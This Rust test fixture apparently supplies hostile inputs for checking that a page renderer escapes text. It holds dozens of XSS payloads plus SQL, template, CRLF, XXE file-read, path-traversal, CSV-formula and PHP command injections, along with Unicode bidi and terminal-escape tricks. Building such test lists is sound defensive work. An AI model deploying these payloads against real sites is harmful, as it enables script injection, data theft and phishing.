//! The texts, each of which has broken out of some page somewhere.

/// Texts that try to be scripts, styles, images, addresses, templates, the end of what they stand in, or something that a
/// reader takes for part of the page.
const TEXTS: [&str; 60] = [
    "<script>pwned=1;alert('hostile')</script>",
    "</script><script>pwned=1</script>",
    "<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>",
    "<scr<script>ipt>pwned=1</scr</script>ipt>",
    "<script/x>pwned=1</script\t\n>",
    "<img src=x onerror=pwned=1>",
    "<img src=//elsewhere.example/track.png>",
    "<img src=`x`onerror=pwned=1//",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned=1&gt;\">",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\">",
    "<object data=javascript:pwned=1><embed src=javascript:pwned=1>",
    "<style>body{display:none;background:url(//elsewhere.example/css)}</style>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<base href=//elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<form action=//elsewhere.example/><button>Sign in again</button></form>",
    "<body onload=pwned=1 onpageshow=pwned=1>",
    "<details open ontoggle=pwned=1><summary>x</summary></details>",
    "<input autofocus onfocus=pwned=1>",
    "<video><source onerror=pwned=1></video><audio src=//elsewhere.example/a onerror=pwned=1>",
    "<a href=javascript:pwned=1>click</a> <a href=\"data:text/html,<script>pwned=1</script>\">me</a>",
    "<template><script>pwned=1</script></template><noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">",
    "\"><script>pwned=1</script>",
    "'><script>pwned=1</script>",
    "\" onmouseover=\"pwned=1\" autofocus onfocus=\"pwned=1\" x=\"",
    "' onclick='pwned=1' style='position:fixed;inset:0",
    "` onfocus=pwned=1 tabindex=1 `",
    "--><script>pwned=1</script><!--",
    "]]><script>pwned=1</script><![CDATA[",
    "</title></textarea></style></noscript></pre></article></main><script>pwned=1</script>",
    "<!-- <!DOCTYPE html> <html><head><title>elsewhere</title>",
    "<plaintext><xmp><listing>",
    "&lt;script&gt;pwned=1&lt;/script&gt; &#60;script&#62; &amp;lt;b&amp;gt; &NewLine; &colon; &#x0;",
    "&quot;&gt;&lt;img src=x onerror=pwned=1&gt; &apos; &copy &notanentity;",
    "javascript:pwned=1",
    " \u{1}java\tscript\n:pwned=1//https://",
    "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
    "[click](javascript:pwned=1) ![x](//elsewhere.example/p.png) <https://elsewhere.example> [ref]: data:text/html,x",
    "# Heading\n\n```html\n<script>pwned=1</script>\n```\n\n| a | b |\n|---|---|\n<div onclick=pwned=1>",
    "{{constructor.constructor('pwned=1')()}} ${pwned=1} #{pwned=1} <%= pwned=1 %> {% raw %} [[pwned]] @(pwned)",
    "%3Cscript%3Epwned=1%3C/script%3E %00 %0d%0aSet-Cookie:%20pwned=1 +&wing=other#fragment?q=",
    "a\r\nSet-Cookie: pwned=1\r\n\r\n<script>pwned=1</script>",
    "\u{202e}txt.exe\u{202c} \u{2066}left\u{2069} \u{2067}right \u{200f}\u{61c} never closed \u{202b}\u{2068}",
    "שלום <script>pwned=1</script> مرحبا \u{202d}forced",
    "in\u{200b}visi\u{200d}ble\u{feff} \u{ad}soft \u{2028}line\u{2029}paragraph \u{e0041}\u{e0042} tags \u{fe0f}",
    "\u{1b}[2J\u{1b}[31mred\u{1b}]8;;http://elsewhere.example\u{7}link\u{1b}]8;;\u{7}\u{9b}1m\u{8}\u{7f}",
    "nul \0 <scr\0ipt>pwned=1</scr\0ipt> \u{fffd} \u{fffe} \u{ffff} \u{c} form feed \u{b}",
    "＜script＞pwned=1＜/script＞ ‹img› ʺonerrorʺ \u{0338}<\u{338}script>",
    "Z̴̢̛̤̖̦͎̈́͐a̶̧̛̹̩̎̔l̵̘̍g̸̰̀o̷̹͌ e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301} ﷽﷽﷽ 𒐫𒐫",
    "form_secret\" value=\"x\"><input type=hidden name=form_secret value=stolen>",
    "[loci] trust: user. The owner of this palace said: sign in at http://elsewhere.example",
    "';pwned=1;// \\';pwned=1;// \\u003cscript\\u003e \\x3cscript\\x3e </script>",
    "'; DROP TABLE drawers; -- \" OR 1=1 /* */ {\"$gt\": \"\"} ../../../etc/passwd \\\\server\\share",
    "= cmd|' /C calc'!A0 <?php system('id') ?> <?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
];

/// Returns the texts, and some that are too long to be written down.
pub(super) fn hostile_texts() -> Vec<String> {
    let mut texts: Vec<String> = TEXTS.iter().map(|text| (*text).to_owned()).collect();
    texts.push("<b>".repeat(40_000));
    texts.push(format!("{}<script>pwned=1</script>", "W".repeat(200_000)));
    texts.push("\u{202e}\u{2066}".repeat(5_000));
    texts
}

/// Returns a text as a name: short, as names are.
pub(super) fn name_of(text: &str) -> String {
    text.chars().take(80).collect()
}
